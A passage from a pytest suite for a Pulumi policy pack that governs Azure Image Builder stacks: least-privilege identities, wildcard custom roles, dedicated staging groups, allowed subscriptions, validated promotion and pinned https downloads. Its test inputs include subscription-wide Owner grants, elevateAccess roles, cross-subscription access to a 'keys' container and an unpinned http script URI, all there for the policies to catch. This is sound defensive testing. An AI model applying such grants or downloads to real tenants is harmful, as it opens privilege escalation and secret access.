def test_deprovision_kept(step, expected):
    found = violations("aib-deprovision-kept", TEMPLATE, _override(step))
    assert (found == []) if expected is None else (len(found) == 1 and re.search(expected, found[0])), found


@pytest.mark.parametrize("scope,role,bad", [
    (STAGING, CONTRIBUTOR, False),
    (SUB, CONTRIBUTOR, True),
    (SUB + "/", CONTRIBUTOR.upper(), True),
    (SUB, OWNER, True),
    (SUB, RBAC_ADMINISTRATOR, True),
    (SUB, "a8889054-8d42-49c9-bc1c-52486c10e7cd", True),  # Reservations Administrator
    (SUB, "92b92042-07d9-4307-87f7-36a593fc5850", True),  # Azure File Sync Administrator
    ("/providers/Microsoft.Management/managementGroups/mg-root", USER_ACCESS_ADMINISTRATOR, True),
    ("/", OWNER, True),
    (SUB, "acdd72a7-3385-48ef-bd42-f606fba81ae7", False),  # Reader at subscription scope is not broad
])
def test_no_broad_role_assignment(scope, role, bad):
    props = {"scope": scope, "principalId": PRINCIPAL, "principalType": "ServicePrincipal",
             "roleDefinitionId": f"{SUB}/providers/Microsoft.Authorization/roleDefinitions/{role}"}
    found = violations("aib-no-broad-role-assignment", ROLE_ASSIGNMENT, props)
    assert bool(found) == bad, found


def _role(*actions: str, data_actions: tuple[str, ...] = (), not_actions: tuple[str, ...] = (), scope: str = RG) -> dict:
    return {"assignableScopes": [scope], "permissions": [
        {"actions": list(actions), "dataActions": list(data_actions), "notActions": list(not_actions)}]}


@pytest.mark.parametrize("props,expected", [
    (_role("Microsoft.Compute/images/write", "Microsoft.Authorization/roleAssignments/read"), []),
    (_role("Microsoft.Compute/images/write", scope=SUB), ["assignableScopes"]),
    (_role("*", data_actions=("*",)), ["actions grants the wildcard '*'", "dataActions grants the wildcard '*'"]),
    (_role("*/read"), [r"'\*/read'"]),
    (_role("Microsoft.Compute/*/write"), [r"'Microsoft.Compute/\*/write'"]),
    (_role("Microsoft.Compute/galleries/images/*"), ["wildcard"]),
    (_role(data_actions=("Microsoft.Storage/storageAccounts/blobServices/containers/blobs/*",)), ["dataActions"]),
    (_role("Microsoft.Compute/images/read", not_actions=("Microsoft.Compute/*/delete",)), []),  # exclusions narrow
    (_role("microsoft.authorization/roleAssignments/write"), ["changes who may do what"]),
    (_role("Microsoft.Authorization/elevateAccess/action"), ["changes who may do what"]),
])
def test_custom_role_scoped(props, expected):
    found = violations("aib-custom-role-scoped", ROLE_DEFINITION, props)
    assert len(found) == len(expected) and all(re.search(p, m) for p, m in zip(expected, found)), found


def test_rules_ignore_other_resource_types():
    assert violations("aib-build-timeout", ROLE_ASSIGNMENT, {}) == []
    assert violations("aib-no-broad-role-assignment", TEMPLATE, {"scope": SUB,
                                                                 "roleDefinitionId": CONTRIBUTOR}) == []


def _resource(kind: str, name: str, props: dict) -> PolicyResource:
    return PolicyResource(kind, props, f"urn:pulumi:test::aib::{kind}::{name}", name, _opts(), None, None, [], {})


def stack_violations(resources: list[PolicyResource], name: str = "aib-identity-least-privilege") -> list[tuple[str, Any]]:
    policy = BY_NAME[name]
    assert isinstance(policy, StackValidationPolicy)
    found: list[tuple[str, Any]] = []
    policy.validate(StackValidationArgs(resources), lambda message, urn=None: found.append((message, urn)))
    return found


def _assignment(name: str, scope: str, role: str, principal: str = PRINCIPAL) -> PolicyResource:
    return _resource(ROLE_ASSIGNMENT, name, {"scope": scope, "principalId": principal,
                                             "roleDefinitionId": f"{SUB}/providers/Microsoft.Authorization/"
                                                                 f"roleDefinitions/{role}"})


def _pipeline(*extra: PolicyResource, template_props: dict | None = None) -> list[PolicyResource]:
    """A template, its declared identity and its declared staging group, plus `extra`."""
    return [_resource(TEMPLATE, "t", template_props or template()),
            _resource(IDENTITY, "id", {"resourceName": "id-aib-x", "resourceGroupName": "rg-golden-images",
                                       "principalId": PRINCIPAL}),
            _resource(RESOURCE_GROUP, "staging", {"resourceGroupName": "rg-aib-staging-x"}), *extra]


@pytest.mark.parametrize("assignment,bad", [
    (_assignment("staging", STAGING, CONTRIBUTOR), False),
    (_assignment("gallery", f"{RG}/providers/Microsoft.Compute/galleries/g/images/i", "b65a8e6a-0000"), False),
    (_assignment("rg-contributor", RG, CONTRIBUTOR), True),
    (_assignment("sub-custom", SUB, "b65a8e6a-0000"), True),
    (_assignment("staging-owner", STAGING, OWNER), True),  # role assignment rights even on its own group
    (_assignment("staging-rbac-admin", STAGING, RBAC_ADMINISTRATOR), True),
    (_assignment("someone-else", SUB, OWNER, principal="another-principal"), False),
])
def test_identity_least_privilege(assignment, bad):
    found = stack_violations(_pipeline(assignment))
    assert bool(found) == bad, found
    if bad:
        assert found[0][1] == assignment.urn  # the violation names the assignment


def test_identity_rule_reads_template_outputs_too():
    # After an update stack policies see outputs, where the identity is a map id -> {principalId, clientId}.
    props = template(identity={"type": "UserAssigned", "userAssignedIdentities": {IDENTITY_ID: {"principalId": PRINCIPAL}}})
    assert len(stack_violations(_pipeline(_assignment("sub", SUB, CONTRIBUTOR), template_props=props))) == 1


def test_identity_rule_reads_the_scope_from_an_assignments_id_after_an_update():
    # azure-native's outputs leave the `scope` path parameter out; the id carries it.
    def by_id(scope: str, role: str) -> PolicyResource:
        return _resource(ROLE_ASSIGNMENT, "ra", {"principalId": PRINCIPAL, "id": f"{scope}/providers/Microsoft."
                                                 f"Authorization/roleAssignments/0b1c", "roleDefinitionId":
                                                 f"{SUB}/providers/Microsoft.Authorization/roleDefinitions/{role}"})
    assert len(stack_violations(_pipeline(by_id(SUB, CONTRIBUTOR)))) == 1
    assert len(stack_violations(_pipeline(by_id(RG, OWNER)))) == 1
    assert stack_violations(_pipeline(by_id(STAGING, CONTRIBUTOR))) == []


def test_an_identity_from_outside_the_stack_is_reported_as_unchecked():
    outside = template(identity={"type": "UserAssigned", "userAssignedIdentities": [OTHER_IDENTITY_ID]})
    resources = _pipeline(template_props=outside)
    (found,) = stack_violations(resources, "aib-external-template-identity")
    assert "id-aib-other" in found[0] and "not declared in this stack" in found[0] and found[1] == resources[0].urn
    assert stack_violations(resources) == []  # the least-privilege rule cannot see its grants
    assert stack_violations(_pipeline(), "aib-external-template-identity") == []


@pytest.mark.parametrize("resources,expected", [
    (_pipeline(), None),
    (_pipeline(template_props=template(stagingResourceGroup=None)), None),  # the service's own IT_ group
    (_pipeline()[:2], "not created by this stack"),
    (_pipeline(_resource(IDENTITY, "other", {"resourceName": "x", "resourceGroupName": "RG-AIB-STAGING-X"})),
     r"also holds \['other'\]"),
    (_pipeline(_resource(TEMPLATE, "t2", template(imageTemplateName="y-0123456789"))), r"also holds \['t2'\]"),
])
def test_dedicated_staging(resources, expected):
    found = stack_violations(resources, "aib-dedicated-staging")
    assert (found == []) if expected is None else bool(found and re.search(expected, found[0][0])), found


def _preview_view(kind: str, name: str, props: dict, group: PolicyResource | None = None) -> PolicyResource:
    """A resource as a stack policy sees it in a preview: outputs, so no `resourceGroupName` (a path parameter
    azure-native leaves out) and no id yet; the group it came from is a property dependency."""
    deps = {"resourceGroupName": [group]} if group is not None else {}
    return PolicyResource(kind, props, f"urn:pulumi:test::aib::{kind}::{name}", name, _opts(), None, None,
                          [group] if group is not None else [], deps)


def test_a_staging_group_that_holds_the_stacks_other_resources_is_refused_in_a_preview_too():
    """The stack's own group as staging group (it holds the gallery and identities): seen through the group each
    resource's resourceGroupName came from, or through its id once known; the policy saw nothing there before."""
    main = _preview_view(RESOURCE_GROUP, "resource-group", {"name": "rg-golden-images", "location": "westeurope"})
    props = template(stagingResourceGroup=RG)
    resources = [_preview_view(TEMPLATE, "t", props, main),
                 _preview_view(IDENTITY, "id", {"location": "westeurope"}, main), main,
                 _preview_view("azure-native:compute:Gallery", "gallery", {"location": "westeurope"}, main)]
    (found,) = stack_violations(resources, "aib-dedicated-staging")
    assert re.search(r"also holds \[.*'gallery', 'id'", found[0]) and found[1] == resources[0].urn, found
    # What a real preview shows: no resource says where it lies, but the template names its identity by id.
    (found,) = stack_violations([_preview_view(TEMPLATE, "t", props), main], "aib-dedicated-staging")
    assert "also holds ['identity.userAssignedIdentities id-aib-x']" in found[0], found
    # After an update the ids say where each resource lies.
    by_id = [_resource(TEMPLATE, "t", props), main,
             _resource("azure-native:compute:Gallery", "gallery",
                       {"id": f"{RG}/providers/Microsoft.Compute/galleries/g"})]
    assert "also holds ['gallery', " in stack_violations(by_id, "aib-dedicated-staging")[0][0]
    # Its role assignments (a scope, not a place) and a dedicated staging group's own template do not count.
    own = [_resource(TEMPLATE, "t", template()), _resource(RESOURCE_GROUP, "staging", {"name": "rg-aib-staging-x"}),
           _resource(ROLE_ASSIGNMENT, "ra", {"scope": STAGING, "id": f"{STAGING}/providers/Microsoft.Authorization/"
                                                                  "roleAssignments/1"})]
    assert stack_violations(own, "aib-dedicated-staging") == []


def stack_config_violations(resources: list[PolicyResource], name: str, config: dict | None) -> list[tuple[str, Any]]:
    policy = BY_NAME[name]
    assert isinstance(policy, StackValidationPolicy)
    found: list[tuple[str, Any]] = []
    policy.validate(StackValidationArgs(resources, config), lambda message, urn=None: found.append((message, urn)))
    return found


SHARED = f"{SUB}/resourceGroups/rg-shared"


@pytest.mark.parametrize("config,refused", [
    (None, True),  # an existing group the pipeline does not create may be shared: refused (mandatory, issue 23)
    ({"allowedStagingGroups": [SHARED.upper() + "/"]}, False),  # allow-listed by id
    ({"allowedStagingGroups": ["RG-SHARED"]}, False),  # or by name
    ({"allowedStagingGroups": ["rg-other"]}, True),
])
def test_a_shared_staging_group_is_refused_unless_allow_listed(config, refused):
    resources = _pipeline(template_props=template(stagingResourceGroup=SHARED))
    found = stack_config_violations(resources, "aib-dedicated-staging", config)
    assert bool(found) == refused, found
    if refused:
        assert "rg-shared" in found[0][0] and "allowedStagingGroups" in found[0][0] and found[0][1] == resources[0].urn
    assert BY_NAME["aib-dedicated-staging"].enforcement_level != EnforcementLevel.ADVISORY


FOREIGN = "/subscriptions/11111111-1111-1111-1111-111111111111"
KEYS = (f"{FOREIGN}/resourceGroups/rg-secrets/providers/Microsoft.Storage/storageAccounts/stkeys/blobServices/default/"
        "containers/keys")
BLOB_READER = "2a2b9908-6ea1-4ae2-8e65-a410df84e7d1"
FOREIGN_VERSION = f"{FOREIGN}/resourceGroups/rg/providers/Microsoft.Compute/galleries/g/images/i/versions/1.0.0"


def _distribute(*targets: dict) -> dict:
    return template(distribute=list(targets))


GRANT = {"principalId": PRINCIPAL, "principalType": "ServicePrincipal",
         "roleDefinitionId": f"{SUB}/providers/Microsoft.Authorization/roleDefinitions/{BLOB_READER}"}
FOREIGN_SUB = FOREIGN.rsplit("/", 1)[1]


@pytest.mark.parametrize("resource_type,props,config,expected", [
    (TEMPLATE, template(), None, []),
    (ROLE_ASSIGNMENT, {**GRANT, "scope": STAGING}, None, []),
    # Storage Blob Data Reader on another subscription's `keys` container, for the template identity
    (ROLE_ASSIGNMENT, {**GRANT, "scope": KEYS}, None,
     [r"grants a role at .*/containers/keys' is in subscription 11111111-1111-1111-1111-111111111111, outside the "
      r"allowed subscriptions \(00000000-0000-0000-0000-000000000000: the stack's own"]),
    (ROLE_ASSIGNMENT, {**GRANT, "scope": "/providers/Microsoft.Management/managementGroups/mg"}, None,
     ["a scope above any subscription"]),
    (ROLE_ASSIGNMENT, {**GRANT, "scope": KEYS}, {"allowedSubscriptions": [FOREIGN_SUB.upper()]}, []),
    (ROLE_ASSIGNMENT, {**GRANT, "scope": STAGING}, {"allowedSubscriptions": [FOREIGN_SUB]},
     [r"is in subscription 00000000.*\(11111111-1111-1111-1111-111111111111: policy config allowedSubscriptions\)"]),
    (ROLE_DEFINITION, _role("Microsoft.Compute/images/read", scope=f"{FOREIGN}/resourceGroups/rg"),
     {"allowedSubscriptions": [SUB.rsplit("/", 1)[1]]}, ["is assignable at"]),
    (TEMPLATE, _distribute({"type": "SharedImage", "runOutputName": "s", "galleryImageId":
                            f"{FOREIGN}/resourceGroups/rg/providers/Microsoft.Compute/galleries/g/images/i"}),
     None, [r"distribute\[0\]\.galleryImageId .* subscription 11111111"]),
    (TEMPLATE, _distribute({"type": "ManagedImage", "runOutputName": "m", "location": "westeurope",
                            "imageId": f"{FOREIGN}/resourceGroups/rg/providers/Microsoft.Compute/images/i"}),
     None, [r"distribute\[0\]\.imageId"]),
    (TEMPLATE, template(source={"type": "SharedImageVersion", "imageVersionId": FOREIGN_VERSION}), None,
     [r"source\.imageVersionId .* subscription 11111111"]),
    (TEMPLATE, template(source={"type": "SharedImageVersion", "imageVersionId": FOREIGN_VERSION}),
     {"allowedSubscriptions": [SUB.rsplit("/", 1)[1], FOREIGN_SUB]}, []),  # allowed
    (TEMPLATE, template(stagingResourceGroup=f"{FOREIGN}/resourceGroups/rg-aib-staging-x"), None,
     [r"stagingResourceGroup .* subscription 11111111"]),
    # A VHD to a storage account: a blob URL names no subscription, so the account must be vouched for
    (TEMPLATE, _distribute({"type": "VHD", "runOutputName": "v",
                            "uri": "https://stforeign.blob.core.windows.net/vhds/x.vhd?sig=S"}), None,
     [r"distribute\[0\]\.uri 'https://stforeign.blob.core.windows.net/vhds/x.vhd' writes the image to a storage "
      r"account the policy cannot place"]),
    (TEMPLATE, _distribute({"type": "VHD", "runOutputName": "v", "uri": "https://stvhd.blob.core.windows.net/v/x.vhd"}),
     {"allowedStorageAccounts": ["STVHD"]}, []),
    (TEMPLATE, _distribute({"type": "VHD", "runOutputName": "v"}), None, []),  # in the staging storage account
])
def test_grants_sources_and_targets_stay_in_the_allowed_subscriptions(resource_type, props, config, expected):
    found = violations("aib-allowed-subscriptions", resource_type, props, config)
    assert all("sig=" not in m for m in found)
    assert len(found) == len(expected) and all(re.search(p, m) for p, m in zip(expected, found)), found


def test_the_committed_config_allows_the_stacks_subscription_only():
    config = json.loads((ROOT / "policy" / "config.json").read_text())["aib-allowed-subscriptions"]
    assert config["allowedSubscriptions"] == ["00000000-0000-0000-0000-000000000000"]
    assert violations("aib-allowed-subscriptions", ROLE_ASSIGNMENT, {**GRANT, "scope": KEYS}, config)


def _lifecycle(mode: str | None, definition: str) -> PolicyResource:
    return _resource("pulumi-python:dynamic/aib:ImageVersionLifecycle", "life",
                     {"image_definition_id": definition, "promotion_mode": mode, "retention": None})


GALLERY_IMAGE = f"{RG}/providers/Microsoft.Compute/galleries/g/images/i"
PROMOTED = template(distribute=[{"type": "SharedImage", "runOutputName": "s", "galleryImageId": GALLERY_IMAGE,
                                 "excludeFromLatest": True}])


@pytest.mark.parametrize("mode,validate,expected", [
    ("afterValidation", PROMOTED["validate"], []),
    ("afterValidation", None, ["runs no validate.inVMValidations"]),  # validators removed
    ("afterValidation", {"inVMValidations": []}, ["runs no validate.inVMValidations"]),
    ("manual", {**PROMOTED["validate"], "continueDistributeOnFailure": True}, ["continueDistributeOnFailure is true"]),
    ("afterValidation", {"continueDistributeOnFailure": True}, ["runs no validate", "continueDistributeOnFailure"]),
    (None, None, []),  # retention only: nothing is promoted
])
def test_promotion_keeps_validators_and_stops_on_their_failure(mode, validate, expected):
    props = copy.deepcopy(PROMOTED)
    if validate is None:
        del props["validate"]
    else:
        props["validate"] = validate
    resources = _pipeline(_lifecycle(mode, GALLERY_IMAGE.upper()), template_props=props)
    found = stack_violations(resources, "aib-validated-promotion")
    assert len(found) == len(expected) and all(p in m for p, (m, _) in zip(expected, found)), found
    assert all(urn == resources[0].urn for _, urn in found)
    # a lifecycle of another image definition does not concern this template
    other = _pipeline(_lifecycle(mode, GALLERY_IMAGE + "-other"), template_props=props)
    assert stack_violations(other, "aib-validated-promotion") == []


# --- the real stacks pass every rule --------------------------------------------------------------------------------

@pytest.mark.parametrize("stack", ["dev", "prod"])
def test_synthesized_stacks_pass_every_rule(stack):
    result = synth(stack, project_dir=ROOT)
    checked = {p.name: 0 for p in POLICIES}
    for r in result["resources"]:
        for policy in POLICIES:
            if isinstance(policy, ResourceValidationPolicy):
                found = violations(policy.name, r["type"], r["inputs"])
                assert found == [], f"{stack}: {r['name']} violates {policy.name}: {found}"
                checked[policy.name] += r["type"] in (TEMPLATE, ROLE_ASSIGNMENT, ROLE_DEFINITION)
    # The identity rule needs the identity's principal id, an output: synth exports it per image.
    principals = {o["identityId"].rsplit("/", 1)[-1]: o["identityPrincipalId"] for o in result["outputs"].values()}
    resources = []
    for r in result["resources"]:
        props = dict(r["inputs"])
        if r["type"] == IDENTITY:
            props["principalId"] = principals[props["resourceName"]]
        resources.append(_resource(r["type"], r["name"], props))
    for policy in POLICIES:
        if isinstance(policy, StackValidationPolicy):
            assert stack_violations(resources, policy.name) == [], f"{stack} violates {policy.name}"
    # Not vacuous: the identity holds grants the rule looked at, the rules saw templates and assignments, and
    # granting the identity Contributor on the subscription would be caught.
    assert any(r.props.get("principalId") in principals.values() for r in resources if r.resource_type == ROLE_ASSIGNMENT)
    assert checked["aib-pinned-downloads"] and checked["aib-no-broad-role-assignment"]
    broad = _assignment("sub", SUB, CONTRIBUTOR, principal=next(iter(principals.values())))
    assert len(stack_violations(resources + [broad])) == 1


# --- through the analyzer protocol ------------------------------------------------------------------------------------

def _struct(props: dict) -> struct_pb2.Struct:
    s = struct_pb2.Struct()
    s.update(props)
    return s


def test_pack_through_the_analyzer_protocol():
    servicer = _PolicyAnalyzerServicer(PACK_NAME, "0.0.1", POLICIES, EnforcementLevel.MANDATORY)
    bad = template(buildTimeoutInMinutes=0)
    bad["customize"][0]["scriptUri"] = "http://example.org/b.sh"
    del bad["customize"][0]["sha256Checksum"]
    response = servicer.Analyze(proto.AnalyzeRequest(type=TEMPLATE, properties=_struct(bad), urn="urn:t", name="t"),
                                None)
    assert sorted(d.policyName for d in response.diagnostics) == ["aib-build-timeout", "aib-https-uris",
                                                                   "aib-pinned-downloads"]
    assert all(d.policyPackName == PACK_NAME for d in response.diagnostics)
    assert any("'http://example.org/b.sh' is not https" in d.message for d in response.diagnostics)
    ok = servicer.Analyze(proto.AnalyzeRequest(type=TEMPLATE, properties=_struct(template()), urn="urn:t", name="t"),
                          None)
    assert list(ok.diagnostics) == []
    resources = [proto.AnalyzerResource(type=TEMPLATE, properties=_struct(template()), urn="urn:t", name="t"),
                 proto.AnalyzerResource(type=IDENTITY, properties=_struct({"resourceName": "id-aib-x",
                                                                           "principalId": PRINCIPAL}),
                                        urn="urn:id", name="id"),
                 proto.AnalyzerResource(type=ROLE_ASSIGNMENT, urn="urn:ra", name="ra", properties=_struct(
                     {"scope": SUB, "principalId": PRINCIPAL,
                      "roleDefinitionId": f"{SUB}/providers/Microsoft.Authorization/roleDefinitions/{CONTRIBUTOR}"}))]
    stack = servicer.AnalyzeStack(proto.AnalyzeStackRequest(resources=resources), None)
    # The staging group is not declared here, so it may be shared: refused on the template; the broad grant is
    # refused on the assignment.
    found = {(d.policyName, d.urn, d.enforcementLevel) for d in stack.diagnostics}
    assert found == {("aib-identity-least-privilege", "urn:ra", proto.MANDATORY),
                     ("aib-dedicated-staging", "urn:t", proto.MANDATORY)}


def _configure(servicer: _PolicyAnalyzerServicer, config: dict) -> None:
    """What the engine sends for `--policy-pack-config FILE`: per policy a level and/or its settings."""
    policy_config = {}
    for name, value in config.items():
        settings = {} if isinstance(value, str) else {k: v for k, v in value.items() if k != "enforcementLevel"}
        level = value if isinstance(value, str) else value.get("enforcementLevel", "mandatory")
        policy_config[name] = proto.PolicyConfig(enforcementLevel=getattr(proto, level.upper()),
                                                 properties=_struct(settings))
    servicer.Configure(proto.ConfigureAnalyzerRequest(policyConfig=policy_config), None)


def test_the_organisation_sets_allow_lists_and_levels_through_the_config():
    servicer = _PolicyAnalyzerServicer(PACK_NAME, "0.0.1", POLICIES, EnforcementLevel.MANDATORY)
    props = _struct(template(buildTimeoutInMinutes=300,
                             vmProfile={"userAssignedIdentities": [OTHER_IDENTITY_ID]}))

    def analyze() -> set[tuple[str, int]]:
        response = servicer.Analyze(proto.AnalyzeRequest(type=TEMPLATE, properties=props, urn="urn:t", name="t"), None)
        return {(d.policyName, d.enforcementLevel) for d in response.diagnostics}

    assert analyze() == {("aib-build-vm-identities", proto.MANDATORY)}
    _configure(servicer, {"aib-build-vm-identities": {"allowedIdentities": [OTHER_IDENTITY_ID]},
                          "aib-build-timeout": {"enforcementLevel": "advisory", "maxMinutes": 240}})
    assert analyze() == {("aib-build-timeout", proto.ADVISORY)}
    _configure(servicer, {"aib-build-timeout": "disabled"})
    assert analyze() == {("aib-build-vm-identities", proto.MANDATORY)}


def test_the_committed_config_fits_the_policies_schemas():
    config = json.loads((ROOT / "policy" / "config.json").read_text())
    for name, value in config.items():
        policy = BY_NAME[name]  # only policies of this pack
        level = value if isinstance(value, str) else value.get("enforcementLevel", "mandatory")
        assert level in ("advisory", "mandatory", "disabled"), name
        if isinstance(value, dict):
            settings = {k: v for k, v in value.items() if k != "enforcementLevel"}
            schema = {"type": "object", "additionalProperties": False, "properties": policy.config_schema.properties}
            jsonschema.validate(settings, schema)


def test_the_packs_lock_pins_the_versions_the_tests_ran_with_hashes():
    def pins(path: str) -> dict[str, str]:
        text = (ROOT / path).read_text()
        return {m.group(1).lower(): m.group(2) for m in re.finditer(r"^([A-Za-z0-9_.-]+)==(\S+) \\$", text, re.M)}

    lock = (ROOT / "policy" / "requirements.lock").read_text()
    pack, project = pins("policy/requirements.lock"), pins("requirements-dev.lock")
    assert {"pulumi", "pulumi-policy", "protobuf", "grpcio"} <= set(pack)
    assert {name: project.get(name) for name in pack} == pack
    assert lock.count("==") == len(pack) and all(f"{n}==" in lock for n in pack)
    assert all(block.count("--hash=sha256:") >= 1 for block in re.split(r"\n(?=[a-z])", lock)[1:])


def test_the_readme_names_every_rule_of_the_pack():
    readme = (ROOT / "README.md").read_text()
    section = readme.split("### Policy pack", 1)[1].split("\n## ", 1)[0]
    missing = [p.name for p in POLICIES if f"`{p.name}" not in section]
    assert not missing, f"README's Policy pack section does not describe {missing}"
